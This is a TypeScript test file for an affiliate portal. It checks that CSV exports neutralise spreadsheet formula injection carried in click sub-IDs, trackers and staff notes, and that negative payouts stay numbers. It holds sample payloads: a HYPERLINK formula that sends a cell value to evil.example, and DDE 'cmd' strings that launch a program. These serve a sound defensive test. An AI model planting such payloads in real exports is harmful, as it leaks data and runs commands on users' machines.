/**
 * Formula injection in CSV exports (decision 029): a partner's link carries spreadsheet formulas in its sub-ID
 * and trackers; every text cell of every export that starts like a formula comes out prefixed with ', while numbers,
 * a negative amount included, stay numbers.
 */
import { eq } from 'drizzle-orm';
import { statisticsEndpoints, type ReportType } from '@portal/contracts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { conversions, offers } from '../src/db/schema.js';
import { buildTestApp, callEndpoint, createPartner, expectOk, login, testClock, type TestApp } from './helper.js';
import { advertiserTokenOf, createOffer } from './offer-fixtures.js';
import { parseCsv } from './csv.js';
import { goalsWithoutFloor } from './conversion-fixtures.js';

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
const CMD = "+cmd|'/C calc'!A0";
const AT = '@SUM(1+9)*cmd|x!A0';
const MINUS = '-2+3+cmd|x!A0';
const TAB = '\t=1+1';

let t: TestApp;
let token: string;
let offerId: number;
const clock = testClock(new Date('2026-03-10T12:00:00Z'));
const DAY = { startDate: '2026-03-10', endDate: '2026-03-10' };

async function exported(type: ReportType): Promise<string[][]> {
  const res = await callEndpoint(t.app, statisticsEndpoints.export, { params: { type }, query: DAY }, token);
  expectOk(res);
  expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
  return parseCsv(res.raw.body);
}

beforeAll(async () => {
  t = await buildTestApp({ now: clock.now });
  await goalsWithoutFloor(t, ['registration']); // the conversion rules are on (decision 109)
  const partner = await createPartner(t);
  offerId = await createOffer(t, {
    name: '-Minus offer',
    goals: [{ goal: 'registration', p1: { amount: 250 } }],
  });
  await t.database.db
    .update(offers)
    .set({ defaultUrl: 'https://shop.example.com/?cid={click_id}' })
    .where(eq(offers.id, offerId));
  const click = async (query: Record<string, string>) => {
    const params = new URLSearchParams({ offer_id: String(offerId), aff_id: String(partner.partnerId), ...query });
    const res = await t.app.inject({
      method: 'GET',
      url: `/click?${params.toString()}`,
      remoteAddress: '198.51.100.7',
    });
    expect(res.statusCode).toBe(302);
    return new URL(res.headers.location as string).searchParams.get('cid')!;
  };
  const attack = await click({ subid: HYPERLINK, tc1: CMD, tc2: AT, tc3: MINUS, tc4: TAB });
  await click({ subid: AT });
  await click({ subid: MINUS });
  await click({ subid: 'plain' });
  await t.app.tracking.buffer.flush();
  // A conversion, then a correction that made its payout negative (a charge-back): the amount must stay a number.
  const postback = await t.app.inject({
    method: 'GET',
    url: `/postback?${new URLSearchParams({ click_id: attack, goal: 'registration', token: await advertiserTokenOf(t, offerId) }).toString()}`,
  });
  expect(postback.json()).toMatchObject({ status: 'approved' });
  // The note staff wrote on the change is read by the partner in the export too (decision 069): text like the others.
  await t.database.db
    .update(conversions)
    .set({ payout: -150, originalPayout: 250, note: HYPERLINK, changedAt: clock.now() })
    .where(eq(conversions.clickId, attack));
  token = await login(t, partner.email, partner.password);
}, 60_000);
afterAll(async () => t?.close());

describe('CSV exports neutralise formulas (decision 029)', () => {
  it('prefixes the sub-ID and trackers of the click report, and leaves the numbers plain', async () => {
    const [header, ...rows] = await exported('click');
    expect(header).toEqual([
      'Date',
      'Click ID',
      'Offer ID',
      'Offer',
      'IP Address',
      'SubID',
      'Tracker1',
      'Tracker2',
      'Tracker3',
      'Tracker4',
      'Country',
      'Device Type',
      'Browser',
      'Converted',
    ]);
    const attack = rows.find((row) => row[6] !== '')!;
    expect(attack.slice(5, 10)).toEqual([`'${HYPERLINK}`, `'${CMD}`, `'${AT}`, `'${MINUS}`, `'${TAB}`]);
    expect(attack[2]).toBe(String(offerId));
    expect(attack[3]).toBe("'-Minus offer");
    expect(attack[4]).toBe('198.51.100.7');
    expect(rows.map((row) => row[5]).sort()).toEqual([`'${AT}`, `'${MINUS}`, `'${HYPERLINK}`, 'plain'].sort());
    // No cell of the export starts like a formula any more.
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('prefixes the sub-ID labels of the sub-ID report, its counts and money staying numbers', async () => {
    const [header, ...rows] = await exported('subid');
    expect(header).toEqual(['SubID', 'Clicks', 'Conversions', 'Conversion Rate (%)', 'Currency', 'Revenue', 'EPC']);
    const byLabel = new Map(rows.map((row) => [row[0], row]));
    expect([...byLabel.keys()].sort()).toEqual(['Totals', `'${AT}`, `'${MINUS}`, `'${HYPERLINK}`, 'plain'].sort());
    expect(byLabel.get(`'${AT}`)).toEqual([`'${AT}`, '1', '0', '0.00', 'EUR', '0.00', '0.0000']);
    // The charge-back is a rollup-free correction; the rollup still holds the original 2.50 as approved revenue.
    expect(byLabel.get(`'${HYPERLINK}`)).toEqual([`'${HYPERLINK}`, '1', '1', '100.00', 'EUR', '2.50', '2.5000']);
  });

  it('keeps a negative amount a number in the conversion report, its text cells prefixed', async () => {
    const [header, ...rows] = await exported('conversion');
    expect(header?.slice(8)).toEqual([
      'Revenue',
      'SubID',
      'Tracker1',
      'Tracker2',
      'Tracker3',
      'Tracker4',
      'Status Reason',
      'Reversal Reason',
      'Note',
      'Original Payout',
      'Click ID',
      'Click Date',
      'Transaction ID',
      'Country',
      'Goal Name',
    ]);
    expect(rows).toHaveLength(1);
    const [row] = rows;
    expect(row?.[3]).toBe("'-Minus offer");
    expect(row?.[7]).toBe('EUR');
    expect(row?.[8]).toBe('-1.50');
    expect(row?.slice(9, 14)).toEqual([`'${HYPERLINK}`, `'${CMD}`, `'${AT}`, `'${MINUS}`, `'${TAB}`]);
    expect(row?.slice(14, 18)).toEqual(['', '', `'${HYPERLINK}`, '2.50']);
  });
});
